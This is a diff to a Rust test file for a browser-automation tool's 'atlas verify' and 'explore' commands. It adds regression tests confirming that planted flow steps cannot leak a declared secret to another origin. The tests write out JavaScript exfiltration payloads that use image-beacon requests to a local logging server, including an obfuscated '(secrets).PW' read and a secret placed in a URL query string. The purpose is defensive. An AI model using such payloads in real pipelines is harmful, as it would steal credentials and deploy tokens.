@@ -132,16 +132,17 @@ fn an_edited_edge_reads_only_declared_secrets_and_opens_only_the_atlas_origin() 
     assert_ne!(code, 0, "{out}{err}");
     assert!(format!("{out}{err}").contains("`EXFIL_ME`"), "{out}{err}");
 
-    // Declared for the atlas, it still goes nowhere but the atlas's origin.
+    // Declared for the atlas, it is put into no URL (D2 of attack 27: the page's code reads
+    // it there), of another origin or not (exit 2).
     write(
         d.path(),
         "runner.toml",
         "[atlas]\nsecrets = [\"EXFIL_ME\"]\n",
     );
     let (code, out, err) = verify(Some(("EXFIL_ME", "ci-deploy-token-77")));
-    assert_eq!(code, 1, "{out}{err}");
+    assert_eq!(code, 2, "{out}{err}");
     assert!(
-        out.contains(&format!("{said}it opens `http://localhost:{}/frame.html?leak={{{{ secrets.EXFIL_ME }}}}`, which is not on the atlas's origin", other.port)),
+        err.contains(&format!("{said}it puts the secret `EXFIL_ME` into a URL")),
         "{out}{err}"
     );
 
@@ -331,4 +332,98 @@ fn a_stored_step_that_takes_the_page_to_another_origin_stops_the_replay() {
     let (_, out, err) = verify();
     let said = format!("{out}{err}");
     assert!(!said.contains("which is not the atlas's origin"), "{said}");
+}
+
+/// D2 (attack 27): a stored step gave a secret runner.toml's `[atlas] secrets` names to code
+/// the page runs, which sent it to another origin while `verify` passed: (a) a `js` check or
+/// wait (only `eval` and `route` were barred), (b) an `eval` spelling it `(secrets).PW`, past
+/// the pattern that told what reads a secret, (c) an `eval` reading it back from the URL a
+/// stored `open` put it in. Each is now refused before anything runs (exit 2, naming the
+/// edge's file and step), and the other origin receives nothing.
+#[test]
+fn stored_steps_give_no_secret_to_code_the_page_runs() {
+    let d = tempfile::tempdir().unwrap();
+    atlas_flow(d.path());
+    let (home, _b) = record(d.path());
+    let server = Server::serve(&d.path().join("site"));
+    let other = Logging::start(d.path());
+    write(d.path(), "runner.toml", "[atlas]\nsecrets = [\"PW\"]\n");
+    let edge = d.path().join(format!("atl/edges/{home}/to b/flow.yaml"));
+    let clean = read_json(&edge);
+    let meta = read_json(&d.path().join(format!("atl/nodes/{home}/meta.json")));
+    let recorded = meta["url"].as_str().unwrap().to_string();
+    let to = format!("http://localhost:{}", other.port);
+    let cases = [
+        (
+            vec![
+                json!({ "open": recorded }),
+                json!({"expect": {"js": format!("(new Image().src = '{to}/ejs?' + encodeURIComponent('{{{{ secrets.PW }}}}'), true)")}}),
+            ],
+            "step 2 (`expect`) reads the secret `PW`",
+        ),
+        (
+            vec![
+                json!({ "open": recorded }),
+                json!({"wait": {"js": {"expr": format!("v => (new Image().src = '{to}/wjs?' + v, true)"), "args": "{{ secrets.PW }}"}}}),
+            ],
+            "step 2 (`wait`) reads the secret `PW`",
+        ),
+        (
+            vec![
+                json!({ "open": recorded }),
+                json!({"eval": format!("new Image().src = '{to}/b?' + '{{{{ (secrets).PW }}}}'; 1")}),
+                json!({"fill": {"target": "#nope", "value": "{{ secrets.PW }}"}}),
+            ],
+            "step 2 (`eval`): it reads `secrets` otherwise than as `secrets.NAME`",
+        ),
+        (
+            vec![
+                json!({ "open": format!("{recorded}?u={{{{ secrets.PW }}}}") }),
+                json!({"eval": format!("new Image().src = '{to}/c' + location.search; 1")}),
+            ],
+            "step 1 (`open`): it puts the secret `PW` into a URL",
+        ),
+    ];
+    for (planted, said) in cases {
+        let mut flow = clean.clone();
+        let steps = flow["steps"].as_array_mut().unwrap();
+        for (i, s) in planted.into_iter().enumerate() {
+            steps.insert(i, s);
+        }
+        write_json(&edge, &flow);
+        let mut c = runner(d.path());
+        c.args(["atlas", "verify", "--atlas", "atl", "--base-url"])
+            .arg(&server.url)
+            .env("PW", "hunter2-secret-77");
+        let (code, out, err) = output_within(c, LIMIT);
+        assert_eq!(other.requests(), "", "{said}: the secret was sent");
+        assert_eq!(code, 2, "{said}: {out}{err}");
+        assert!(err.contains(said), "{out}{err}");
+    }
+}
+
+/// D18 (attack 27): `explore` stopped at the first button that opens a `confirm` (exit 1,
+/// "add a `dialog` step"), whatever runner.toml's `[browser] dialogs` said: the click passed,
+/// and the read of the page after it met the dialog, which only a flow's next step answered.
+/// A read of the page now answers it first as `dialogs` says, as a run's next step does.
+#[test]
+fn explore_answers_a_confirm_as_the_projects_browser_dialogs_says() {
+    let d = tempfile::tempdir().unwrap();
+    let p = d.path();
+    std::fs::create_dir_all(p.join("site")).unwrap();
+    write(
+        &p.join("site"),
+        "index.html",
+        "<!doctype html><title>home</title><h1>Home</h1><button onclick=\"if (confirm('Go on?')) document.getElementById('s').textContent = 'went on'\">Continue</button><p id=\"s\">none</p>\n",
+    );
+    write(p, "runner.toml", "[browser]\ndialogs = \"dismiss\"\n");
+    let server = Server::serve(&p.join("site"));
+    let mut c = runner(p);
+    c.args(["explore", &format!("{}/index.html", server.url)])
+        .args(["--atlas", "ex", "--max-nodes", "5"]);
+    let (code, out, err) = output_within(c, LIMIT);
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(!err.contains("is blocking the page"), "{out}{err}");
+    let status = read_json(&p.join("ex/status.json"));
+    assert_eq!(status["state"], "done", "{status}");
 }
